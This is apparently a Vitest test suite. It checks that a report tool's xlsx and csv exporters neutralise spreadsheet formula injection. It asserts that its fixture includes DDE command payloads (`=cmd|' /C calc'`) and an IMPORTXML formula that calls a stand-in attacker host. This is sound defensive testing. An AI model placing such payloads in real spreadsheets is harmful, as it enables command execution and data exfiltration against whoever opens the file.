import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaLike, normaliseLineBreaks } from '@core/spreadsheet-safe';
import { writeRaciCsv } from '@main/export/csv-writer';
import { writeXlsx } from '@main/export/xlsx-writer';
import type { Report } from '@shared/report';
import { tempDir } from '@tests/helpers/temp';
import { everyCell, readWorkbook, sheetRows, zipEntries } from '@tests/helpers/read-back';
import { buildChangeLog, buildTestReport, injectionPayloads, exportInput, raciRowCount } from '@tests/helpers/report-builder';
import { reportSourceOf } from '@core/report-source';

const payloads = injectionPayloads();

/** Every payload as asset name, tag key and value, party name (so R/A/C/I) and justification. */
function hostileReport(): Report {
  return buildTestReport({
    assets: payloads.length,
    assetNames: payloads,
    partyNames: payloads,
    tags: (a) => ({ [payloads[a]!]: payloads[(a + 1) % payloads.length]! }),
    justification: (a, l) => payloads[(a + l) % payloads.length]!
  });
}

describe('formula injection', () => {
  it('reads every payload line of the fixture', () => {
    expect(payloads).toContain(`=cmd|' /C calc'!'A1'`);
    expect(payloads).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(payloads).toContain('=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")');
    expect(payloads).toContain('–');
    expect(payloads.length).toBeGreaterThan(20);
  });

  describe('xlsx', () => {
    let report: Report;
    let wb: ExcelJS.Workbook;
    let path: string;

    afterAll(() => rmSync(dirname(path), { recursive: true, force: true }));

    beforeAll(async () => {
      report = hostileReport();
      // Kept for the whole describe block (tempDir() is emptied after each test).
      path = join(mkdtempSync(join(tmpdir(), 'demarc-injection-')), 'hostile.xlsx');
      await writeXlsx(exportInput(report, buildChangeLog(payloads.length, (i) => payloads[i]!)),
        {
          path,
          exportedAt: '2026-11-28T09:00:00.000Z',
          exportedBy: payloads[0]!
        }
      );
      wb = await readWorkbook(path);
    });

    it('has no formula in any cell of any sheet', () => {
      const cells = everyCell(wb);
      expect(cells.length).toBeGreaterThan(1000);
      for (const { sheet, cell } of cells) {
        expect(cell.type, `${sheet}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, `${sheet}!${cell.address}`).toBeUndefined();
        expect(typeof cell.value === 'object' && cell.value !== null, `${sheet}!${cell.address}`).toBe(false);
      }
    });

    it('has no <f> element in the raw XML of any sheet', async () => {
      // The detector itself: a real formula written by exceljs is found.
      const control = new ExcelJS.Workbook();
      control.addWorksheet('S').getCell('A1').value = { formula: '1+1' } as ExcelJS.CellFormulaValue;
      const controlPath = join(dirname(path), 'control.xlsx');
      await control.xlsx.writeFile(controlPath);
      expect(/<f[\s>/]/.test(zipEntries(controlPath).get('xl/worksheets/sheet1.xml') ?? '')).toBe(true);

      const sheets = [...zipEntries(path)].filter(([name]) => name.startsWith('xl/worksheets/'));
      expect(sheets.length).toBe(9);
      for (const [name, xml] of sheets) expect(/<f[\s>/]/.test(xml), name).toBe(false);
    });

    it('keeps each payload exactly, as asset name, party, justification, tag and summary', () => {
      const expected = payloads.map(normaliseLineBreaks);
      const raci = sheetRows(wb.getWorksheet('RACI')!, 10).slice(1);
      expect([...new Set(raci.map((r) => r[0]))]).toEqual(expected);
      const justifications = new Set(raci.map((r) => r[6]));
      for (const p of expected) expect(justifications.has(p), JSON.stringify(p)).toBe(true);
      const roleNames = new Set(raci.flatMap((r) => [r[7], r[8]]).filter((v) => typeof v === 'string'));
      for (const p of expected) expect(roleNames.has(p), JSON.stringify(p)).toBe(true);
      const lists = sheetRows(wb.getWorksheet('Lists')!, 2)
        .slice(1)
        .map((r) => r[0])
        .filter((v) => v !== null);
      expect(lists).toEqual([...expected, 'Microsoft', 'Contoso MSP']);
      const tags = sheetRows(wb.getWorksheet('Matrix')!, 9)
        .slice(1)
        .map((r) => r[8]);
      expect(tags[1]).toBe(`${expected[1]}=${expected[2]}`);
      const summaries = sheetRows(wb.getWorksheet('Change log')!, 6)
        .slice(1)
        .map((r) => r[5]);
      expect(summaries).toEqual(expected);
      expect(wb.creator).toBe(payloads[0]);
    });
  });

  describe('csv', () => {
    it("prefixes every formula-like field with ' and keeps the rest of the text exact", async () => {
      const report = hostileReport();
      const path = join(tempDir(), 'hostile.csv');
      await writeRaciCsv(reportSourceOf(report), raciRowCount(report), { path });
      const text = readFileSync(path, 'utf8');
      expect(text.charCodeAt(0)).toBe(0xfeff);
      const records = parse(text.slice(1), { relax_column_count: false }) as string[][];
      expect(records[0]).toEqual([
        'Asset',
        'Asset id',
        'Layer',
        'Responsibility',
        'Published',
        'Overridden',
        'Justification',
        'R',
        'A',
        'C',
        'I',
        'Comments',
        'Signed off by / on',
        'Criticality',
        'Data classification',
        'Environment'
      ]);
      const rows = records.slice(1);
      expect(rows).toHaveLength(payloads.length * 10);
      let prefixed = 0;
      for (const [i, row] of rows.entries()) {
        const asset = report.assets[Math.floor(i / 10)]!;
        const layer = asset.layers[i % 10]!;
        const fields: [string, string | null][] = [
          [row[0]!, asset.name],
          [row[6]!, layer.justification],
          [row[7]!, layer.R.join('; ')]
        ];
        for (const [written, original] of fields) {
          const source = normaliseLineBreaks(original ?? '');
          if (isFormulaLike(source)) {
            expect(written).toBe(`'${source}`);
            prefixed += 1;
          } else expect(written).toBe(source);
          // Whatever was written, a spreadsheet will not read it as a formula.
          expect(isFormulaLike(written), JSON.stringify(written)).toBe(false);
        }
      }
      expect(prefixed).toBeGreaterThan(payloads.length);
    });
  });
});
